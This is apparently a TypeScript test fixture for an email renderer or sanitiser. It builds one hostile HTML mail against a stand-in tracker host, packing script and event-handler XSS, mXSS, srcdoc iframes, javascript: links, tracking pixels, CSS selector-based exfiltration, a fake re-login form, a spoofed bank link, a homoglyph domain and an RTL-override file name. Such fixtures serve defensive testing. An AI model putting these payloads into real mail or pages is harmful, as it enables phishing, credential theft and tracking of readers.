/** Where a mail that got out would be heard of. Nothing may ever ask for it. */
export const ELSEWHERE = 'https://tracker.example';

/** One mail with everything a mail has ever been used for against its reader. */
export const HOSTILE_HTML = `<!doctype html><html><head>
<base href="${ELSEWHERE}/">
<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/refresh">
<link rel="stylesheet" href="${ELSEWHERE}/style.css">
<style>
@import url("${ELSEWHERE}/import.css");
@font-face { font-family: spy; src: url(${ELSEWHERE}/font.woff2); }
body { background: url(${ELSEWHERE}/background.png); font-family: spy; }
.escaped { background-image: u\\72l(${ELSEWHERE}/escaped.png); }
.set { background-image: image-set("${ELSEWHERE}/set.png" 1x); }
input[value^="a"] { background: url(${ELSEWHERE}/exfiltrated-a); }
.cover { position: fixed; inset: 0; z-index: 99999; }
</style></head>
<body onload="parent.pwned='onload'" background="${ELSEWHERE}/body.png" style="background:url('${ELSEWHERE}/inline.png')">
<script>parent.pwned='script'; top.location='${ELSEWHERE}/top'</script>
<img src=x onerror="parent.pwned='onerror'">
<img src="${ELSEWHERE}/pixel.gif" width="1" height="1" srcset="${ELSEWHERE}/pixel2.gif 2x">
<svg onload="parent.pwned='svg'"><script>parent.pwned='svgscript'</script><image href="${ELSEWHERE}/svg.png"/></svg>
<math><mtext></mtext><mglyph><style><img src=x onerror="parent.pwned='mxss'"></style></mglyph></math>
<iframe src="${ELSEWHERE}/frame"></iframe><iframe srcdoc="<script>parent.parent.pwned='srcdoc'</script>"></iframe>
<object data="${ELSEWHERE}/object"></object><embed src="${ELSEWHERE}/embed">
<video poster="${ELSEWHERE}/poster.png" autoplay><source src="${ELSEWHERE}/video.mp4"></video>
<form action="${ELSEWHERE}/form"><input name="password" autofocus onfocus="parent.pwned='focus'"><button>Sign in again</button></form>
<p class="escaped set cover">Dear customer,</p>
<p><a href="javascript:parent.pwned='javascript'" ping="${ELSEWHERE}/ping">Confirm</a></p>
<p><a href="${ELSEWHERE}/steal?b=1" target="_top">https://www.mybank.example/login</a></p>
<p><a href="https://аpple.example/">apple</a> and \u202Egnp.exe\u202C</p>
<p>The end of the letter.</p>
</body></html>`;
